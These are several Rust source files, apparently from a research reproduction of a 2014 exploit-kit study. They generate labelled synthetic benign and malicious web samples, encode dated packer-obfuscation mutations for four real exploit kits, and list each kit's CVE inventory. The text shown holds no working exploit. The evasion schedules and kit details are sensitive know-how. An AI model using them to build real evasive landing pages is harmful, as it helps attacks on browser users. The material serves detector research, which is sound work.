impl Default for StreamConfig {
    fn default() -> Self {
        StreamConfig {
            samples_per_day: 300,
            malicious_fraction: 0.15,
            family_weights: default_weights(),
            seed: 0,
        }
        .validated()
    }
}

fn default_weights() -> Vec<(KitFamily, f64)> {
    vec![
        (KitFamily::Angler, 0.45),
        (KitFamily::SweetOrange, 0.25),
        (KitFamily::Nuclear, 0.20),
        (KitFamily::Rig, 0.10),
    ]
}

/// Statistics of one generated day.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct DayStats {
    /// Samples generated.
    pub total: usize,
    /// Benign samples.
    pub benign: usize,
    /// Malicious samples per family.
    pub per_family: Vec<(KitFamily, usize)>,
}

/// The grayware stream generator.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct GraywareStream {
    config: StreamConfig,
}

impl GraywareStream {
    /// Create a stream with the given configuration.
    #[must_use]
    pub fn new(config: StreamConfig) -> Self {
        GraywareStream {
            config: config.validated(),
        }
    }

    /// The stream configuration.
    #[must_use]
    pub fn config(&self) -> &StreamConfig {
        &self.config
    }

    /// Generate the samples captured on `date`.
    ///
    /// The result is deterministic in `(config.seed, date)` and independent
    /// of any other day.
    #[must_use]
    pub fn generate_day(&self, date: SimDate) -> Vec<Sample> {
        let mut rng = self.day_rng(date);
        let mut samples = Vec::with_capacity(self.config.samples_per_day);
        let id_base = u64::from(date.ordinal()) * 1_000_000 + self.config.seed % 1_000;

        let weight_total: f64 = self.config.family_weights.iter().map(|(_, w)| w).sum();

        for i in 0..self.config.samples_per_day {
            let id = SampleId(id_base + i as u64);
            let malicious = rng.gen_bool(self.config.malicious_fraction);
            let (html, truth) = if malicious && weight_total > 0.0 {
                let family = self.draw_family(&mut rng, weight_total);
                let html = KitModel::new(family).generate_sample(date, &mut rng);
                (html, GroundTruth::Malicious(family))
            } else {
                let kind = BenignKind::ALL[rng.gen_range(0..BenignKind::ALL.len())];
                (generate_benign(kind, &mut rng), GroundTruth::Benign)
            };
            samples.push(Sample::new(id, date, html, truth));
        }
        samples
    }

    /// Generate every day in `[start, end]`, returning one `Vec<Sample>`
    /// per day.
    #[must_use]
    pub fn generate_range(&self, start: SimDate, end: SimDate) -> Vec<(SimDate, Vec<Sample>)> {
        start
            .range_inclusive(end)
            .into_iter()
            .map(|d| (d, self.generate_day(d)))
            .collect()
    }

    /// Summary statistics of a generated day.
    #[must_use]
    pub fn day_stats(samples: &[Sample]) -> DayStats {
        let mut per_family: Vec<(KitFamily, usize)> =
            KitFamily::ALL.iter().map(|f| (*f, 0)).collect();
        let mut benign = 0usize;
        for sample in samples {
            match sample.truth {
                GroundTruth::Benign => benign += 1,
                GroundTruth::Malicious(f) => {
                    if let Some(slot) = per_family.iter_mut().find(|(fam, _)| *fam == f) {
                        slot.1 += 1;
                    }
                }
            }
        }
        DayStats {
            total: samples.len(),
            benign,
            per_family,
        }
    }

    fn draw_family<R: Rng + ?Sized>(&self, rng: &mut R, weight_total: f64) -> KitFamily {
        let mut pick = rng.gen_range(0.0..weight_total);
        for (family, weight) in &self.config.family_weights {
            if pick < *weight {
                return *family;
            }
            pick -= weight;
        }
        self.config
            .family_weights
            .last()
            .map(|(f, _)| *f)
            .expect("validated config has at least one family")
    }

    fn day_rng(&self, date: SimDate) -> ChaCha8Rng {
        let seed = self.config.seed.wrapping_mul(0x9E37_79B9_7F4A_7C15)
            ^ (u64::from(date.year) << 20)
            ^ (u64::from(date.ordinal()) << 4);
        ChaCha8Rng::seed_from_u64(seed)
    }
}

impl Default for GraywareStream {
    fn default() -> Self {
        GraywareStream::new(StreamConfig::default())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn day_generation_is_deterministic() {
        let stream = GraywareStream::new(StreamConfig::small(11));
        let d = SimDate::new(2014, 8, 14);
        assert_eq!(stream.generate_day(d), stream.generate_day(d));
    }

    #[test]
    fn different_days_differ() {
        let stream = GraywareStream::new(StreamConfig::small(11));
        let a = stream.generate_day(SimDate::new(2014, 8, 14));
        let b = stream.generate_day(SimDate::new(2014, 8, 15));
        assert_ne!(a, b);
    }

    #[test]
    fn sample_counts_match_config() {
        let stream = GraywareStream::new(StreamConfig::small(3));
        let day = stream.generate_day(SimDate::new(2014, 8, 2));
        assert_eq!(day.len(), 60);
        let stats = GraywareStream::day_stats(&day);
        assert_eq!(stats.total, 60);
        let malicious: usize = stats.per_family.iter().map(|(_, n)| n).sum();
        assert_eq!(stats.benign + malicious, 60);
    }

    #[test]
    fn malicious_fraction_is_roughly_respected() {
        let config = StreamConfig {
            samples_per_day: 400,
            malicious_fraction: 0.25,
            family_weights: default_weights(),
            seed: 5,
        };
        let stream = GraywareStream::new(config);
        let day = stream.generate_day(SimDate::new(2014, 8, 20));
        let malicious = day.iter().filter(|s| s.truth.is_malicious()).count();
        let fraction = malicious as f64 / day.len() as f64;
        assert!((0.15..=0.35).contains(&fraction), "fraction {fraction}");
    }

    #[test]
    fn family_mix_follows_weights() {
        let config = StreamConfig {
            samples_per_day: 600,
            malicious_fraction: 0.5,
            family_weights: default_weights(),
            seed: 9,
        };
        let stream = GraywareStream::new(config);
        let day = stream.generate_day(SimDate::new(2014, 8, 10));
        let stats = GraywareStream::day_stats(&day);
        let count = |f: KitFamily| {
            stats
                .per_family
                .iter()
                .find(|(fam, _)| *fam == f)
                .map_or(0, |(_, n)| *n)
        };
        assert!(count(KitFamily::Angler) > count(KitFamily::Nuclear));
        assert!(count(KitFamily::Nuclear) > count(KitFamily::Rig));
        assert!(count(KitFamily::Rig) > 0);
    }

    #[test]
    fn zero_malicious_fraction_produces_only_benign() {
        let config = StreamConfig {
            samples_per_day: 50,
            malicious_fraction: 0.0,
            family_weights: default_weights(),
            seed: 1,
        };
        let day = GraywareStream::new(config).generate_day(SimDate::new(2014, 8, 7));
        assert!(day.iter().all(|s| !s.truth.is_malicious()));
    }

    #[test]
    fn generate_range_covers_every_day() {
        let stream = GraywareStream::new(StreamConfig::small(2));
        let range = stream.generate_range(SimDate::new(2014, 8, 1), SimDate::new(2014, 8, 5));
        assert_eq!(range.len(), 5);
        assert_eq!(range[0].0, SimDate::new(2014, 8, 1));
        assert_eq!(range[4].0, SimDate::new(2014, 8, 5));
    }

    #[test]
    fn sample_ids_are_unique_within_a_month() {
        let stream = GraywareStream::new(StreamConfig::small(6));
        let range = stream.generate_range(SimDate::new(2014, 8, 1), SimDate::new(2014, 8, 10));
        let mut ids = std::collections::HashSet::new();
        for (_, day) in &range {
            for sample in day {
                assert!(ids.insert(sample.id), "duplicate id {}", sample.id);
            }
        }
    }

    #[test]
    #[should_panic(expected = "malicious_fraction")]
    fn invalid_fraction_panics() {
        let _ = StreamConfig {
            samples_per_day: 10,
            malicious_fraction: 1.5,
            family_weights: default_weights(),
            seed: 0,
        }
        .validated();
    }

    #[test]
    #[should_panic(expected = "at least one family weight")]
    fn zero_weights_with_malicious_fraction_panics() {
        let _ = StreamConfig {
            samples_per_day: 10,
            malicious_fraction: 0.5,
            family_weights: vec![(KitFamily::Rig, 0.0)],
            seed: 0,
        }
        .validated();
    }
}
