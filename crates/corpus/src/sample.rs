//! Grayware samples and ground-truth labels.

use crate::date::SimDate;
use crate::family::KitFamily;
use serde::Serialize;
use std::fmt;

/// Identifier of a sample within the generated corpus, unique per stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct SampleId(pub u64);

impl fmt::Display for SampleId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "sample-{:08}", self.0)
    }
}

/// Ground-truth label of a sample.
///
/// The generator knows what it emitted, which stands in for the paper's
/// manual validation of ~7,000 files (paper §IV "Ground Truth").
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize)]
pub enum GroundTruth {
    /// The sample is benign.
    Benign,
    /// The sample is a landing page of the given exploit kit.
    Malicious(KitFamily),
}

impl GroundTruth {
    /// True if the sample is malicious (any family).
    #[must_use]
    pub fn is_malicious(&self) -> bool {
        matches!(self, GroundTruth::Malicious(_))
    }

    /// The kit family, if malicious.
    #[must_use]
    pub fn family(&self) -> Option<KitFamily> {
        match self {
            GroundTruth::Benign => None,
            GroundTruth::Malicious(f) => Some(*f),
        }
    }
}

impl fmt::Display for GroundTruth {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            GroundTruth::Benign => f.write_str("benign"),
            GroundTruth::Malicious(family) => write!(f, "malicious({family})"),
        }
    }
}

/// A single grayware sample: a complete HTML document with inline scripts,
/// its capture date and its ground-truth label.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Sample {
    /// Stream-unique identifier.
    pub id: SampleId,
    /// Capture date.
    pub date: SimDate,
    /// The full HTML document.
    pub html: String,
    /// What the generator actually emitted.
    pub truth: GroundTruth,
}

impl Sample {
    /// Create a sample.
    #[must_use]
    pub fn new(id: SampleId, date: SimDate, html: String, truth: GroundTruth) -> Self {
        Sample {
            id,
            date,
            html,
            truth,
        }
    }

    /// Size of the HTML document in bytes.
    #[must_use]
    pub fn size(&self) -> usize {
        self.html.len()
    }
}

impl fmt::Display for Sample {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} [{}] {} ({} bytes)",
            self.id,
            self.date,
            self.truth,
            self.size()
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ground_truth_accessors() {
        assert!(!GroundTruth::Benign.is_malicious());
        assert_eq!(GroundTruth::Benign.family(), None);
        let m = GroundTruth::Malicious(KitFamily::Angler);
        assert!(m.is_malicious());
        assert_eq!(m.family(), Some(KitFamily::Angler));
    }

    #[test]
    fn sample_display_mentions_everything() {
        let s = Sample::new(
            SampleId(7),
            SimDate::new(2014, 8, 3),
            "<html></html>".to_string(),
            GroundTruth::Malicious(KitFamily::Rig),
        );
        let text = s.to_string();
        assert!(text.contains("sample-00000007"));
        assert!(text.contains("8/3/14"));
        assert!(text.contains("RIG"));
        assert!(text.contains("13 bytes"));
    }

    #[test]
    fn sample_size_is_html_length() {
        let s = Sample::new(
            SampleId(1),
            SimDate::new(2014, 8, 1),
            "abcd".to_string(),
            GroundTruth::Benign,
        );
        assert_eq!(s.size(), 4);
    }
}
