//! Exploit-kit evolution: the mutation schedules of paper §II-B / Fig. 5.
//!
//! The paper tracks the Nuclear exploit kit over three months and observes
//! three kinds of change: frequent, superficial packer mutations (mostly the
//! obfuscation of the string `eval` and the string delimiter the packer
//! uses), infrequent payload appends (a new CVE, added AV-presence
//! detection), and cross-kit code borrowing (RIG's AV check showing up in
//! Nuclear in August). This module encodes those schedules explicitly: each
//! family has a list of dated [`EvolutionEvent`]s, and [`KitState::on_date`]
//! folds them into the kit's configuration for any given day.

use crate::date::SimDate;
use crate::family::{Component, Cve, KitFamily};
use serde::Serialize;
use std::fmt;

/// What changed in a single evolution step.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub enum ChangeKind {
    /// A superficial packer change: new `eval` obfuscation and/or string
    /// delimiter. These are the frequent changes above the axis in Fig. 5.
    PackerMutation {
        /// The new obfuscated spelling of `eval` (e.g. `ev#FFFFFFal`).
        obfuscation: String,
        /// The new string delimiter spliced into packed strings (e.g. `UluN`).
        delimiter: String,
    },
    /// A change to how the packer itself works (Nuclear's single semantic
    /// packer change of August 12).
    PackerSemanticChange,
    /// A new exploit appended to the payload (e.g. CVE-2013-0074 added to
    /// Nuclear on August 27).
    ExploitAppended(Cve),
    /// AV-presence detection added to the plug-in detector — in Nuclear's
    /// case code borrowed verbatim from RIG (July 29).
    AvDetectionAdded,
    /// Angler's August 13 move of the Java exploit marker from plain HTML
    /// into the obfuscated body, which opened the AV false-negative window
    /// of Fig. 6.
    JavaMarkerHidden,
}

impl ChangeKind {
    /// True if the change touches the payload (below the axis in Fig. 5)
    /// rather than only the packer.
    #[must_use]
    pub fn is_payload_change(&self) -> bool {
        matches!(
            self,
            ChangeKind::ExploitAppended(_)
                | ChangeKind::AvDetectionAdded
                | ChangeKind::JavaMarkerHidden
        )
    }
}

impl fmt::Display for ChangeKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ChangeKind::PackerMutation { obfuscation, .. } => {
                write!(f, "packer mutation ({obfuscation})")
            }
            ChangeKind::PackerSemanticChange => f.write_str("semantic packer change"),
            ChangeKind::ExploitAppended(cve) => write!(f, "exploit appended ({})", cve.id),
            ChangeKind::AvDetectionAdded => f.write_str("AV detection added"),
            ChangeKind::JavaMarkerHidden => f.write_str("Java marker moved into packed body"),
        }
    }
}

/// A dated change to a kit.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct EvolutionEvent {
    /// The family the change applies to.
    pub family: KitFamily,
    /// The day the change was first observed in the wild.
    pub date: SimDate,
    /// What changed.
    pub kind: ChangeKind,
}

impl EvolutionEvent {
    fn mutation(family: KitFamily, date: SimDate, obfuscation: &str, delimiter: &str) -> Self {
        EvolutionEvent {
            family,
            date,
            kind: ChangeKind::PackerMutation {
                obfuscation: obfuscation.to_string(),
                delimiter: delimiter.to_string(),
            },
        }
    }
}

impl fmt::Display for EvolutionEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} {}: {}", self.date, self.family, self.kind)
    }
}

/// The evolution schedule of a family over June–August 2014.
///
/// Nuclear's schedule transcribes the paper's Fig. 5; the other families'
/// schedules are reconstructed from the paper's narrative (Angler's
/// August 13 change from Fig. 6 / Example 1, RIG's high URL churn and May
/// AV-check introduction, Sweet Orange's obfuscation swaps) at the stated
/// cadence of "packer changes every few days".
#[must_use]
pub fn schedule(family: KitFamily) -> Vec<EvolutionEvent> {
    use KitFamily::*;
    let d = |m, day| SimDate::new(2014, m, day);
    match family {
        Nuclear => {
            let mut events = vec![
                EvolutionEvent::mutation(family, d(6, 1), "ev#FFFFFFal", "#FFFFFF"),
                EvolutionEvent::mutation(family, d(6, 14), "e#FFFFFFval", "#FFFFFF"),
                EvolutionEvent::mutation(family, d(6, 18), "eva#FFFFFFl", "#FFFFFF"),
                EvolutionEvent::mutation(family, d(6, 24), "ev+var", "q0w9"),
                EvolutionEvent::mutation(family, d(6, 30), "e~v~#a~l", "~#"),
                EvolutionEvent::mutation(family, d(7, 9), "e~#v~a~l", "~#"),
                EvolutionEvent::mutation(family, d(7, 11), "e~##~#v~#a~l", "~##"),
                EvolutionEvent::mutation(family, d(7, 17), "e3X@@#val", "3X@@#"),
                EvolutionEvent::mutation(family, d(7, 20), "e3fwrwg4#val", "3fwrwg4#"),
                EvolutionEvent {
                    family,
                    date: d(7, 29),
                    kind: ChangeKind::AvDetectionAdded,
                },
                EvolutionEvent {
                    family,
                    date: d(8, 12),
                    kind: ChangeKind::PackerSemanticChange,
                },
                EvolutionEvent::mutation(family, d(8, 17), "esa1asval", "sa1as"),
                EvolutionEvent::mutation(family, d(8, 19), "eher_vam#val", "her_vam"),
                EvolutionEvent::mutation(family, d(8, 22), "efber443#val", "fber443"),
                EvolutionEvent::mutation(family, d(8, 26), "eUluN#val", "UluN"),
                EvolutionEvent {
                    family,
                    date: d(8, 27),
                    kind: ChangeKind::ExploitAppended(Cve::new(
                        "CVE-2013-0074",
                        Component::Silverlight,
                    )),
                },
            ];
            events.sort_by_key(|e| e.date);
            events
        }
        Angler => vec![
            EvolutionEvent::mutation(family, d(6, 5), "splitjoin_v1", "Zx"),
            EvolutionEvent::mutation(family, d(7, 2), "splitjoin_v2", "Qp"),
            EvolutionEvent::mutation(family, d(8, 5), "splitjoin_v3", "Kw"),
            EvolutionEvent {
                family,
                date: d(8, 13),
                kind: ChangeKind::JavaMarkerHidden,
            },
            EvolutionEvent::mutation(family, d(8, 21), "splitjoin_v4", "Vn"),
        ],
        Rig => vec![
            EvolutionEvent {
                family,
                date: d(6, 1),
                kind: ChangeKind::AvDetectionAdded,
            },
            EvolutionEvent::mutation(family, d(6, 10), "charcode_v1", "y6"),
            EvolutionEvent::mutation(family, d(7, 3), "charcode_v2", "p3k"),
            EvolutionEvent::mutation(family, d(8, 4), "charcode_v3", "w9"),
            EvolutionEvent::mutation(family, d(8, 9), "charcode_v4", "zz4"),
            EvolutionEvent::mutation(family, d(8, 15), "charcode_v5", "m2x"),
            EvolutionEvent::mutation(family, d(8, 22), "charcode_v6", "k77"),
            EvolutionEvent::mutation(family, d(8, 28), "charcode_v7", "r5"),
        ],
        SweetOrange => vec![
            EvolutionEvent::mutation(family, d(6, 20), "mathsqrt_v1", "WWb"),
            EvolutionEvent::mutation(family, d(7, 15), "mathsqrt_v2", "bEW"),
            EvolutionEvent {
                family,
                date: d(8, 10),
                kind: ChangeKind::PackerSemanticChange,
            },
            EvolutionEvent::mutation(family, d(8, 18), "mathsqrt_v3", "sjd"),
        ],
    }
}

/// The full configuration of a kit on a given day: everything the payload
/// builder and the packer need.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct KitState {
    /// The kit family.
    pub family: KitFamily,
    /// How many evolution events have been applied (0 = the June 1 state).
    pub version: u32,
    /// Current `eval` obfuscation marker.
    pub eval_obfuscation: String,
    /// Current string delimiter.
    pub delimiter: String,
    /// CVEs currently carried by the payload.
    pub cves: Vec<Cve>,
    /// Whether the payload contains the (shared) AV-presence check.
    pub av_check: bool,
    /// Whether Angler's Java exploit marker is still exposed in plain HTML
    /// (true before August 13).
    pub java_marker_exposed: bool,
    /// Semantic packer revision (bumped by [`ChangeKind::PackerSemanticChange`]).
    pub packer_revision: u32,
}

impl KitState {
    /// The kit's configuration at the start of the simulation (June 1,
    /// 2014), before any scheduled event.
    #[must_use]
    pub fn initial(family: KitFamily) -> Self {
        let mut cves = family.cve_inventory();
        // Payload appends scheduled during the window must not be present
        // initially: Nuclear gains CVE-2013-0074 only on August 27.
        if family == KitFamily::Nuclear {
            cves.retain(|c| c.id != "CVE-2013-0074");
        }
        // Nuclear gains its AV check only on July 29 (borrowed from RIG);
        // RIG has carried it since before the window (modeled as a June 1
        // event), so both start without it and RIG turns it on immediately.
        let av_check = matches!(family, KitFamily::Angler);
        KitState {
            family,
            version: 0,
            eval_obfuscation: default_obfuscation(family).to_string(),
            delimiter: default_delimiter(family).to_string(),
            cves,
            av_check,
            java_marker_exposed: family == KitFamily::Angler,
            packer_revision: 0,
        }
    }

    /// Apply a single evolution event.
    pub fn apply(&mut self, event: &EvolutionEvent) {
        debug_assert_eq!(event.family, self.family);
        self.version += 1;
        match &event.kind {
            ChangeKind::PackerMutation {
                obfuscation,
                delimiter,
            } => {
                self.eval_obfuscation = obfuscation.clone();
                self.delimiter = delimiter.clone();
            }
            ChangeKind::PackerSemanticChange => self.packer_revision += 1,
            ChangeKind::ExploitAppended(cve) => {
                if !self.cves.contains(cve) {
                    self.cves.push(*cve);
                }
            }
            ChangeKind::AvDetectionAdded => self.av_check = true,
            ChangeKind::JavaMarkerHidden => self.java_marker_exposed = false,
        }
    }

    /// The kit's configuration on `date`, after applying every scheduled
    /// event up to and including that day.
    #[must_use]
    pub fn on_date(family: KitFamily, date: SimDate) -> Self {
        let mut state = KitState::initial(family);
        for event in schedule(family) {
            if event.date <= date {
                state.apply(&event);
            }
        }
        state
    }
}

fn default_obfuscation(family: KitFamily) -> &'static str {
    match family {
        KitFamily::Nuclear => "ev#FFFFFFal",
        KitFamily::Angler => "splitjoin_v0",
        KitFamily::Rig => "charcode_v0",
        KitFamily::SweetOrange => "mathsqrt_v0",
    }
}

fn default_delimiter(family: KitFamily) -> &'static str {
    match family {
        KitFamily::Nuclear => "#333366",
        KitFamily::Angler => "Zq",
        KitFamily::Rig => "y6",
        KitFamily::SweetOrange => "WWW",
    }
}

/// Render the Fig. 5 evolution timeline for one family as text: packer
/// changes above the axis, payload changes below it.
#[must_use]
pub fn timeline(family: KitFamily) -> String {
    let mut out = String::new();
    out.push_str(&format!("Evolution of {family} (paper Fig. 5)\n"));
    out.push_str("Packer changes:\n");
    for event in schedule(family) {
        if !event.kind.is_payload_change() {
            out.push_str(&format!("  {:<9} {}\n", event.date.to_string(), event.kind));
        }
    }
    out.push_str("Payload changes:\n");
    for event in schedule(family) {
        if event.kind.is_payload_change() {
            out.push_str(&format!("  {:<9} {}\n", event.date.to_string(), event.kind));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nuclear_schedule_matches_figure_5_counts() {
        let events = schedule(KitFamily::Nuclear);
        let packer_mutations = events
            .iter()
            .filter(|e| matches!(e.kind, ChangeKind::PackerMutation { .. }))
            .count();
        let semantic = events
            .iter()
            .filter(|e| e.kind == ChangeKind::PackerSemanticChange)
            .count();
        // "a total of 13 small syntactic changes ... only one of these
        // packer changes changed the semantics of the packer"
        assert_eq!(packer_mutations, 13);
        assert_eq!(semantic, 1);
        let payload_changes = events.iter().filter(|e| e.kind.is_payload_change()).count();
        assert_eq!(payload_changes, 2, "AV detection + appended CVE");
    }

    #[test]
    fn schedules_are_sorted_by_date() {
        for family in KitFamily::ALL {
            let events = schedule(family);
            for pair in events.windows(2) {
                assert!(pair[0].date <= pair[1].date);
            }
        }
    }

    #[test]
    fn nuclear_state_before_and_after_july_29_av_check() {
        let before = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 7, 28));
        let after = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 7, 29));
        assert!(!before.av_check);
        assert!(after.av_check);
    }

    #[test]
    fn nuclear_gains_silverlight_cve_on_august_27() {
        let before = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 26));
        let after = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 27));
        assert!(!before.cves.iter().any(|c| c.id == "CVE-2013-0074"));
        assert!(after.cves.iter().any(|c| c.id == "CVE-2013-0074"));
        // Appending only: nothing was removed.
        assert_eq!(after.cves.len(), before.cves.len() + 1);
    }

    #[test]
    fn nuclear_delimiter_on_august_26_is_ulun() {
        let state = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 26));
        assert_eq!(state.delimiter, "UluN");
        assert_eq!(state.eval_obfuscation, "eUluN#val");
    }

    #[test]
    fn angler_java_marker_hidden_on_august_13() {
        let before = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 12));
        let after = KitState::on_date(KitFamily::Angler, SimDate::new(2014, 8, 13));
        assert!(before.java_marker_exposed);
        assert!(!after.java_marker_exposed);
    }

    #[test]
    fn rig_has_av_check_from_the_start_of_the_window() {
        let state = KitState::on_date(KitFamily::Rig, SimDate::new(2014, 6, 1));
        assert!(state.av_check);
    }

    #[test]
    fn sweet_orange_never_gains_av_check() {
        let state = KitState::on_date(KitFamily::SweetOrange, SimDate::new(2014, 8, 31));
        assert!(!state.av_check);
    }

    #[test]
    fn version_counts_applied_events() {
        let state = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 31));
        assert_eq!(state.version as usize, schedule(KitFamily::Nuclear).len());
        let early = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 5, 1));
        assert_eq!(early.version, 0);
    }

    #[test]
    fn semantic_change_bumps_packer_revision() {
        let before = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 11));
        let after = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 12));
        assert_eq!(before.packer_revision, 0);
        assert_eq!(after.packer_revision, 1);
    }

    #[test]
    fn state_is_stable_between_events() {
        let a = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 23));
        let b = KitState::on_date(KitFamily::Nuclear, SimDate::new(2014, 8, 25));
        assert_eq!(a, b);
    }

    #[test]
    fn timeline_rendering_contains_key_events() {
        let text = timeline(KitFamily::Nuclear);
        assert!(text.contains("ev#FFFFFFal"));
        assert!(text.contains("AV detection added"));
        assert!(text.contains("CVE-2013-0074"));
        assert!(text.contains("Packer changes"));
        assert!(text.contains("Payload changes"));
    }

    #[test]
    fn exploit_append_is_idempotent() {
        let mut state = KitState::initial(KitFamily::Nuclear);
        let event = EvolutionEvent {
            family: KitFamily::Nuclear,
            date: SimDate::new(2014, 8, 27),
            kind: ChangeKind::ExploitAppended(Cve::new("CVE-2013-0074", Component::Silverlight)),
        };
        state.apply(&event);
        let n = state.cves.len();
        state.apply(&event);
        assert_eq!(state.cves.len(), n);
    }
}
