//! Exploit-kit families and their CVE inventory (paper Fig. 2).

use serde::Serialize;
use std::fmt;

/// The four exploit-kit families the paper focuses on.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub enum KitFamily {
    /// Sweet Orange exploit kit.
    SweetOrange,
    /// Angler exploit kit.
    Angler,
    /// RIG exploit kit.
    Rig,
    /// Nuclear exploit kit.
    Nuclear,
}

impl KitFamily {
    /// All families, in the paper's Fig. 2 order.
    pub const ALL: [KitFamily; 4] = [
        KitFamily::SweetOrange,
        KitFamily::Angler,
        KitFamily::Rig,
        KitFamily::Nuclear,
    ];

    /// Human-readable name as used in the paper.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            KitFamily::SweetOrange => "Sweet Orange",
            KitFamily::Angler => "Angler",
            KitFamily::Rig => "RIG",
            KitFamily::Nuclear => "Nuclear",
        }
    }

    /// Short identifier used in signature names (`NEK.sig1`, `ANG.sig2`, ...
    /// in the paper's Fig. 12).
    #[must_use]
    pub fn short_code(self) -> &'static str {
        match self {
            KitFamily::SweetOrange => "SWO",
            KitFamily::Angler => "ANG",
            KitFamily::Rig => "RIG",
            KitFamily::Nuclear => "NEK",
        }
    }

    /// Whether the kit performs an anti-virus presence check before
    /// exploiting (Fig. 2, "AV check" column; as of September 2014).
    #[must_use]
    pub fn has_av_check(self) -> bool {
        !matches!(self, KitFamily::SweetOrange)
    }

    /// The CVE inventory of the kit as of September 2014 (paper Fig. 2).
    #[must_use]
    pub fn cve_inventory(self) -> Vec<Cve> {
        use Component::*;
        match self {
            KitFamily::SweetOrange => vec![
                Cve::new("CVE-2014-0515", Flash),
                Cve::new("CVE-UNKNOWN-JAVA", Java),
                Cve::new("CVE-2013-2551", InternetExplorer),
                Cve::new("CVE-2014-0322", InternetExplorer),
            ],
            KitFamily::Angler => vec![
                Cve::new("CVE-2014-0507", Flash),
                Cve::new("CVE-2014-0515", Flash),
                Cve::new("CVE-2013-0074", Silverlight),
                Cve::new("CVE-2013-0422", Java),
                Cve::new("CVE-2013-2551", InternetExplorer),
            ],
            KitFamily::Rig => vec![
                Cve::new("CVE-2014-0497", Flash),
                Cve::new("CVE-2013-0074", Silverlight),
                Cve::new("CVE-UNKNOWN-JAVA", Java),
                Cve::new("CVE-2013-2551", InternetExplorer),
            ],
            KitFamily::Nuclear => vec![
                Cve::new("CVE-2013-5331", Flash),
                Cve::new("CVE-2014-0497", Flash),
                Cve::new("CVE-2013-2423", Java),
                Cve::new("CVE-2013-2460", Java),
                Cve::new("CVE-2010-0188", AdobeReader),
                Cve::new("CVE-2013-2551", InternetExplorer),
            ],
        }
    }
}

impl fmt::Display for KitFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// The browser or plug-in component a CVE targets (columns of Fig. 2).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub enum Component {
    /// Adobe Flash Player.
    Flash,
    /// Microsoft Silverlight.
    Silverlight,
    /// Oracle Java plug-in.
    Java,
    /// Adobe Reader.
    AdobeReader,
    /// Internet Explorer itself.
    InternetExplorer,
}

impl Component {
    /// All components, in the paper's column order.
    pub const ALL: [Component; 5] = [
        Component::Flash,
        Component::Silverlight,
        Component::Java,
        Component::AdobeReader,
        Component::InternetExplorer,
    ];

    /// Column header name.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Component::Flash => "Flash",
            Component::Silverlight => "Silverlight",
            Component::Java => "Java",
            Component::AdobeReader => "Adobe Reader",
            Component::InternetExplorer => "Internet Explorer",
        }
    }
}

impl fmt::Display for Component {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// One exploited vulnerability.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
pub struct Cve {
    /// The CVE identifier (or `CVE-UNKNOWN-*` where the paper could not
    /// determine it).
    pub id: &'static str,
    /// The component the exploit targets.
    pub component: Component,
}

impl Cve {
    /// Create a CVE entry.
    #[must_use]
    pub const fn new(id: &'static str, component: Component) -> Self {
        Cve { id, component }
    }

    /// An identifier usable inside generated JavaScript function names
    /// (`cve_2013_2551`).
    #[must_use]
    pub fn slug(&self) -> String {
        self.id.to_ascii_lowercase().replace('-', "_")
    }
}

impl fmt::Display for Cve {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.id, self.component)
    }
}

/// Render the CVE-per-kit table of the paper's Fig. 2 as text.
#[must_use]
pub fn cve_table() -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "{:<14} {:<24} {:<14} {:<24} {:<14} {:<20} {}\n",
        "EK", "Flash", "Silverlight", "Java", "Adobe Reader", "Internet Explorer", "AV check"
    ));
    for family in KitFamily::ALL {
        let mut cols: Vec<String> = Vec::new();
        for component in Component::ALL {
            let cves: Vec<&str> = family
                .cve_inventory()
                .iter()
                .filter(|c| c.component == component)
                .map(|c| c.id)
                .collect();
            cols.push(if cves.is_empty() {
                "-".to_string()
            } else {
                cves.join(", ")
            });
        }
        out.push_str(&format!(
            "{:<14} {:<24} {:<14} {:<24} {:<14} {:<20} {}\n",
            family.name(),
            cols[0],
            cols[1],
            cols[2],
            cols[3],
            cols[4],
            if family.has_av_check() { "Yes" } else { "No" }
        ));
    }
    out
